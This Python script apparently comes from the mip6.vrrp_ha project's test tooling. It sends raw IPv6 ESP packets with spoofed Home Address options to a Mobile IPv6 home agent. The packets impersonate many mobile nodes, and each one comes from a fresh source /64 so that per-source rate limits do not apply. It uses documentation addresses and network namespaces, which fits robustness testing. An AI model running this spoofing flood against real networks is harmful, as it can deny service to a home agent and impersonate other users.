# Copyright: the mip6.vrrp_ha developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""A host that pretends to be mobile nodes that lost their home agent: ESP with other people's home addresses.

README
    spoof.py --netns mn2 --home-agent 2001:db8:1::51 --home-address 2001:db8:1::1:0 --victims 500 --count 10000

    Each packet is ESP behind a Home Address option (FIRST, FIRST + 1, ... and again) and comes from a /64 of its own of
    2001:db8:6600::/40, so that no limit by source takes hold; nothing filters sources on the way.

    JSON: sent, seconds. Needs CAP_NET_RAW.
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import struct
import time
from ipaddress import IPv6Address

import netns

ESP, DESTINATION_OPTIONS, HOME_ADDRESS_OPTION = 50, 60, 0xC9
PREFIX = bytes.fromhex("20010db866")
BURST = 50


def packet(source: bytes, home_agent: bytes, home: bytes, number: int) -> bytes:
    """Nobody can tell it from what a mobile node with a lost security association would send."""
    options = struct.pack("!BBBBBBBB", ESP, 2, 1, 2, 0, 0, HOME_ADDRESS_OPTION, 16) + home
    payload = options + struct.pack("!II", 0x1234, number) + random.randbytes(72)
    return struct.pack("!IHBB", 6 << 28, len(payload), DESTINATION_OPTIONS, 64) + source + home_agent + payload


def main() -> None:
    """The command line."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--netns", help="name or path of the network namespace (default: this one)")
    parser.add_argument("--home-agent", required=True, type=IPv6Address)
    parser.add_argument("--home-address", required=True, type=IPv6Address, metavar="FIRST")
    parser.add_argument("--victims", type=int, default=1)
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--rate", type=float, default=2500.0, help="packets per second")
    args = parser.parse_args()
    if args.netns:
        netns.enter(args.netns)
    first, started = int(args.home_address), time.monotonic()
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for number in range(args.count):
            if number % BURST == 0:
                time.sleep(max(0.0, started + number / args.rate - time.monotonic()))
            home = (first + number % args.victims).to_bytes(16, "big")
            source = PREFIX + random.randbytes(11)
            out.sendto(packet(source, args.home_agent.packed, home, number), (str(args.home_agent), 0))
    print(json.dumps({"sent": args.count, "seconds": round(time.monotonic() - started, 3)}))


if __name__ == "__main__":
    main()
